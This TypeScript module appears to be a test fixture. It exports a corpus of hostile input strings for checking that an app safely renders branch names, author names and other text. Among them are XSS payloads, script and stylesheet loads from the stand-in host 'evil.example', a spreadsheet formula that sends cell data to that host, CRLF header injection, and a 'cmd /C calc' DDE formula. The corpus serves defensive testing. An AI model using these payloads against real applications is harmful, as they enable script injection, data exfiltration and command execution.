/** What each of them would do if it ran. */
const run = "window.__pwned=1";
const thief = "evil.example";

/** Words that try to become something else, by what they try. */
export const hostileTexts = {
  markup: [
    `<script>${run}</script>`,
    `<ScRiPt src=//${thief}/x.js></sCrIpT>`,
    `"><img src=x onerror=${run}>`,
    `</title></textarea></style></script></pre></bdi></td></table></main><script>${run}</script>`,
    `<!--><script>${run}</script>--><![CDATA[><script>${run}</script>]]>`,
    `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe><object data="javascript:${run}"></object>`,
    `<meta http-equiv=refresh content="0;url=https://${thief}"><base href=//${thief}/>`,
    `<link rel=stylesheet href=//${thief}/x.css><style>@import '//${thief}/y.css';</style>`,
    `<form action=//${thief}><button>Approve what is marked</button></form></form>`,
    `<details open ontoggle=${run}><input autofocus onfocus=${run}><video><source onerror=${run}></video>`,
    `<dialog open id=content><h1>Ready to deploy</h1></dialog>`,
  ],
  attributes: [
    `" autofocus onfocus="${run}" onmouseover="${run}" x="`,
    `' onpointerrawupdate='${run}' style='position:fixed;inset:0`,
    `\` onfocus=${run} \\" onclick=${run}//`,
  ],
  addresses: [
    `javascript:${run}`,
    `JaVaScRiPt&colon;${run} java\tscript:${run} \u0001javascript:${run}`,
    `data:text/html,<script>opener.__pwned=1</script>`,
    `//${thief}/%2e%2e/\\\\${thief}\\x`,
    `https://github.com@${thief}/ https://${thief}`,
  ],
  styles: [
    `</style><style>*{display:none!important}</style>`,
    `x:expression(${run});background:url(https://${thief}/c.png)`,
    `}*{background:url(//${thief}/d.png)}body::before{content:"`,
  ],
  templates: [
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} *{7*7} [[${7*7}]] {%7*7%}",
    `{{constructor.constructor('${run}')()}}`,
    `$&$1$\`$' %s %n %x %00 \\u003cscript\\u003e`,
    "__proto__",
    "constructor",
  ],
  headers: [
    `a\r\nSet-Cookie: pwned=1\r\nX-Pwned: 1\r\n\r\n<script>${run}</script>`,
    `%0d%0aLocation:%20https://${thief}%0d%0a`,
    `\u560a\u560d\u0a0dX-Pwned: 1`,
  ],
  entities: [
    `&lt;script&gt;${run}&lt;/script&gt;`,
    `&amp;lt;img src=x onerror=${run}&amp;gt;`,
    `&#x3c;img src=x onerror=${run}&#62; &quot; &#0; &notit; &NewLine;`,
    `%3Cscript%3E${run}%3C/script%3E %253Cscript%253E`,
  ],
  drawings: [
    `<svg onload=${run}><script href="data:text/javascript,${run}"/></svg>`,
    `<svg><animate onbegin=${run} attributeName=x dur=1s /><foreignObject><img src=x onerror=${run}>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' onload='${run}'/>#x"/></svg>`,
  ],
  mutations: [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
    `<template><p></template><select><template><img src=x onerror=${run}></select>`,
  ],
  links: [
    `<https://${thief}|STORY-1> <!channel> <@U012AB3CD> @here`,
    `[STORY-1](https://${thief}) ![x](https://${thief}/x.png)`,
    `](https://${thief}) [x \\](javascript:${run})`,
    `STORY-1|https://${thief}> ||x|| \`\`\` *b* _i_ ~s~`,
    `<a href="https://${thief}">x</a> <https://${thief}>`,
  ],
  formulas: [
    `=HYPERLINK("https://${thief}/?"&A1,"x")`,
    `+1+1",=2+2`,
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\t=1+1\r=2+2",
    "\uFF1D1+1\n=3+3",
  ],
  directions: [
    "\u202Egnp.exe\u202C \u202Dabc \u202Bdef",
    "\u2067isolated \u2066without \u2068end",
    `\u0645\u0631\u062D\u0628\u0627 <b>\u0628\u0627\u0644\u0639\u0627\u0644\u0645</b> \u200F(STORY-1) 12.5%`,
    "in\u200Bvis\u200Dible\uFEFF\u2060\u3164\u{E0041}\u00AD\u180E",
    "\u0007\u001B[31m\u001B]8;;https://evil.example\u0007\u009B2J\u0085\u2028\u2029",
  ],
  shapes: [
    "W".repeat(3_000),
    `https://${thief}/`.repeat(80),
    `Z${"\u0335\u0321\u0489\u20DD".repeat(200)}`,
    "\u{1F468}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}".repeat(120),
    "\uFDFD".repeat(60),
    "\u{1242B}".repeat(40),
    "\u6F22".repeat(400),
    "\u00A0x".repeat(300),
    "-_".repeat(400),
    `${"\n".repeat(60)}x\ty${"\t".repeat(80)}z`,
  ],
} as const satisfies Readonly<Record<string, readonly string[]>>;

/** All of them. */
export const everyHostileText: readonly string[] = Object.values(hostileTexts).flat();

/**
 * What of them git allows in the name of a branch: no space, `~^:?*[\`, control character, two dots or `@{`.
 * 120 characters or so, as long as a status still names it.
 */
export const hostileBranch =
  `"><img/src=x/onerror=window.__pwned=1>'&lt;b&gt;{{7+7}}\${7+7}<%=7+7%>%0d%0a` +
  "\u202Egnp\u2066\u200B\u{1F468}";

/** What of a text git takes for an author's name or address. */
export function asIdentity(text: string): string {
  const words = text.replace(/[<>\r\n\0]/g, "").trim();
  return words === "" ? "x" : words;
}

/** The corpus as texts of at most so many characters each, for places that take few and long ones. */
export function hostileTextsIn(longest: number): readonly string[] {
  const filled: string[] = [""];
  for (const text of everyHostileText) {
    const fitting = text.slice(0, longest);
    const next = `${filled.at(-1) ?? ""}\n${fitting}`;
    if (next.length <= longest) filled[filled.length - 1] = next;
    else filled.push(fitting);
  }
  return filled.map((text) => text.trim());
}
